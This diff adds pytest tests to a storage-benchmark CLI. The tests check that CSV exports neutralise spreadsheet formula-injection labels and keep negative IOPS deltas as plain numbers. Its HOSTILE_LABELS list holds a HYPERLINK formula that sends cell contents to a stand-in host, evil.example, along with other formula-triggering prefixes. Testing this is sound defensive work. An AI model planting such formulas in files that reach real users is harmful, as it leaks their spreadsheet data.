@@ -3,6 +3,7 @@
 import csv
 import io
 import json
+import subprocess
 from typing import Any
 
 import pytest
@@ -68,3 +69,59 @@ def test_table_shows_one_row_per_result_and_direction(
     assert header.split()[:6] == ["id", "created", "job", "host", "label", "class"]
     assert "csv-read" in row and "cli-host" in row and f"run {measured_run['id']}" in row
     assert "iB/s" in row
+
+
+HOSTILE_LABELS = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', "+1", "-cmd", "@SUM(A1:A9)"]
+
+
+@pytest.fixture(scope="module")
+def hostile_imports(service: Service, tmp_path_factory: pytest.TempPathFactory) -> list[dict[str, Any]]:
+    """One fio output imported under labels a spreadsheet would run, each side slower than the last."""
+    workdir = tmp_path_factory.mktemp("hostile")
+    argv = ["fio", "--output-format=json", f"--directory={workdir}", "--name=csv-hostile", "--rw=read"]
+    argv += ["--bs=4k", "--size=1m", "--ioengine=psync"]
+    output = json.loads(subprocess.run(argv, capture_output=True, text=True, timeout=60, check=True).stdout)
+    found = []
+    with service.api() as api:
+        for i, label in enumerate(HOSTILE_LABELS):
+            # Not byte for byte the same output (that would be stored once), and fewer IOPS each time.
+            output["timestamp"] += 1
+            output["jobs"][0]["read"]["iops"] /= 2
+            answer = api.post(
+                "/results/import",
+                files={"file": (f"{i}.json", json.dumps(output).encode())},
+                data={"label": label},
+            )
+            assert answer.status_code == 201, answer.text
+            found.append(answer.json()["results"][0])
+    return found
+
+
+def test_csv_output_neutralises_text_a_spreadsheet_would_run(
+    hostile_imports: list[dict[str, Any]], storbench: CliRunner
+) -> None:
+    done = storbench("results", "--job", "csv-hostile", "--imported", "--format", "csv")
+    assert done.returncode == 0, done.stderr
+    rows = list(csv.DictReader(io.StringIO(done.stdout)))
+    # A leading ' makes the cell text in Excel, LibreOffice and Sheets; the cell is quoted in the file.
+    assert sorted(row["label"] for row in rows) == sorted("'" + label for label in HOSTILE_LABELS)
+    for label in HOSTILE_LABELS:
+        assert "\"'" + label.replace('"', '""') + '"' in done.stdout
+    assert {float(row["iops"]) for row in rows} == {r["directions"]["read"]["iops"] for r in hostile_imports}
+
+
+def test_compare_csv_neutralises_labels_and_keeps_negative_deltas(
+    hostile_imports: list[dict[str, Any]], storbench: CliRunner
+) -> None:
+    done = storbench("compare", *(str(r["id"]) for r in hostile_imports), "--format", "csv")
+    assert done.returncode == 0, done.stderr
+    rows = list(csv.DictReader(io.StringIO(done.stdout)))
+    assert {row["series"] for row in rows} == {"'" + label for label in HOSTILE_LABELS}
+    deltas = [
+        row["delta_pct"]
+        for row in rows
+        if row["figure"] == "iops" and row["is_baseline"] == "false" and row["delta_pct"]
+    ]
+    # Each side read half the IOPS of the one before: -50 % and below, written as plain numbers.
+    assert [float(delta) for delta in deltas] == [-50.0, -75.0, -87.5]
+    assert ",-50.0," in done.stdout
